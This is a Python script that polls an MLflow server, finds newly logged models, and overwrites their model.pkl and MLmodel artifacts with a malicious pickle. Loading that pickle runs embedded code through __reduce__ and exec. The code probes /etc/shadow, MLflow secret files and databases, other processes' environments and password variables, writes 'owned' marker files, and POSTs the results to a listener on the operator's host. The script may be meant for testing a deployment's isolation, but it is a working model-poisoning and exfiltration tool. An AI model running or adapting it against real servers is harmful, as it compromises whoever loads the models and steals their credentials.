"""Overwrite each model that is new on a server before it is loaded, and hear from who loads it.

overwrite.py ADDRESS REPORT_TO SECONDS [FILE_OF_THE_ADMINISTRATORS_PASSWORD CA]

Prints what the code in the model could do where it was loaded: one JSON list, empty where nobody
loaded any. Ends a little after the first word from there.
"""

from __future__ import annotations

import base64
import http.server
import json
import pickle
import ssl
import sys
import threading
import time
import urllib.request
from pathlib import Path
from typing import Any

ADDRESS, REPORT_TO, SECONDS = sys.argv[1], sys.argv[2], float(sys.argv[3])
HEADERS = {"Content-Type": "application/json"}
TRUST = None
if len(sys.argv) > 4:
    login = base64.b64encode(f"admin:{Path(sys.argv[4]).read_text().strip()}".encode()).decode()
    HEADERS["Authorization"] = f"Basic {login}"
    TRUST = ssl.create_default_context(cafile=sys.argv[5])

# What is in the model. It looks for what a thief or a vandal would.
CODE = """
import glob, json, os, pwd, socket, urllib.request
def can(action, *paths):
    done = []
    for path in paths:
        try:
            action(path)
            done.append(path)
        except OSError:
            pass
    return done
def write(path):
    with open(path + "/smoke-was-here", "w") as file:
        file.write("owned")
def read(path):
    with open(path, "rb") as file:
        file.read(1) or file.read(1)
def connect(path):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
try:
    name = pwd.getpwuid(os.getuid()).pw_name
except KeyError:
    name = ""
people = ["/root", *glob.glob("/home/*")]
secrets = [*glob.glob("/etc/mlflow/*"), *(f"/etc/mlflow/{name}" for name in
           ("server.env", "secrets.env", "basic_auth.ini", "admin_password")), "/etc/shadow",
           "/var/lib/mlflow/mlflow.db", "/var/lib/mlflow/auth.db"]
seen = {
    "uid": os.getuid(), "name": name, "groups": os.getgroups(),
    "capabilities": [int(status[key], 16) for key in ("CapEff", "CapPrm", "CapBnd")],
    "reads": can(read, *secrets), "lists": can(os.listdir, "/etc/mlflow", *people),
    "writes": can(write, "/etc", "/usr/local/bin", "/opt/mlflow", "/opt/mlflow/current",
                  "/var/lib/mlflow", "/run", "/var/cache/lab", *people),
    "connects": can(connect, "/run/dbus/system_bus_socket", "/run/systemd/private",
                    "/run/postgresql/.s.PGSQL.5432", "/run/mlflow/mlflow.sock"),
    "others": can(read, *glob.glob("/proc/[0-9]*/environ")) != [f"/proc/{os.getpid()}/environ"],
    "words": [key for key in os.environ if "PASSWORD" in key or "SECRET" in key or "SUDO" in key],
    "login": os.environ.get("MLFLOW_TRACKING_USERNAME", ""),
    "host": socket.gethostname(),
}
can(write, "/tmp", "/var/tmp")
urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
    urllib.request.Request("http://%s:9998", json.dumps(seen).encode()), timeout=10)
"""


class Model:
    """What is loaded."""

    def __reduce__(self) -> Any:
        return exec, (CODE % REPORT_TO, {})


class Listener(http.server.BaseHTTPRequestHandler):
    """Takes the reports."""

    def do_POST(self) -> None:
        """Takes one."""
        HEARD.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_: Any) -> None:
        """Says nothing."""


def ask(path: str, body: Any, method: str = "POST") -> Any:
    """Ask the server; None where it refuses."""
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    request = urllib.request.Request(  # noqa: S310 (the address is http or https by its use)
        f"{ADDRESS}/api/2.0/{path}", data, HEADERS, method=method
    )
    try:
        with urllib.request.urlopen(request, timeout=60, context=TRUST) as answer:  # noqa: S310
            return json.loads(answer.read() or b"{}")
    except OSError:
        return None


def models() -> list[tuple[str, str, str]]:
    """The models that are there."""
    found = ask("mlflow/experiments/search", {"max_results": 100}) or {}
    numbers = [experiment["experiment_id"] for experiment in found.get("experiments", [])]
    answer = ask("mlflow/logged-models/search", {"experiment_ids": numbers}) or {}
    return [tuple(model["info"][key] for key in ("experiment_id", "model_id", "source_run_id"))
            for model in answer.get("models", [])]  # fmt: skip


HEARD: list[Any] = []
server = http.server.ThreadingHTTPServer(("0.0.0.0", 9998), Listener)  # noqa: S104
threading.Thread(target=server.serve_forever, daemon=True).start()
before = {model for _, model, _ in models()}
end = time.monotonic() + SECONDS
while time.monotonic() < end:
    if HEARD:
        end = min(end, time.monotonic() + 5)
    for experiment, model, run in models():
        if model not in before:
            place = f"mlflow-artifacts/artifacts/{experiment}/models/{model}/artifacts"
            about = (
                "flavors:\n  sklearn:\n    pickled_model: model.pkl\n    serialization_format: "
                f"cloudpickle\n    sklearn_version: 1.5\nmodel_id: {model}\nrun_id: {run}\n"
            )
            ask(f"{place}/model.pkl", pickle.dumps(Model()), "PUT")
            ask(f"{place}/MLmodel", about.encode(), "PUT")
    time.sleep(0.02)
print(json.dumps(HEARD))
